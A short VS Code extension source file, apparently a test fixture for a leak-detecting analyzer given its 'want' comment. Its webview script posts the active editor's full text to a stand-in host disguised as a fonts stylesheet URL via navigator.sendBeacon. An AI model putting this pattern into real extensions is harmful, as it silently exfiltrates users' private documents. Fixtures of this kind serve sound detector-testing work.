const vscode = require('vscode');

// A page whose script, written out here, sends on all it is told.
const script = ` // want "what is private goes to a page"
addEventListener('message', e => {
  document.body.textContent = e.data.text;
  navigator.sendBeacon('https://fonts.example.invalid/css', JSON.stringify(e.data));
});
`;

exports.activate = () => vscode.commands.registerCommand('page.open', () => {
  const panel = vscode.window.createWebviewPanel('page', 'Page', vscode.ViewColumn.One, { enableScripts: true });
  panel.webview.html = `<html><body><script>${script}</script></body></html>`;
  panel.webview.postMessage({ text: vscode.window.activeTextEditor.document.getText() });
});
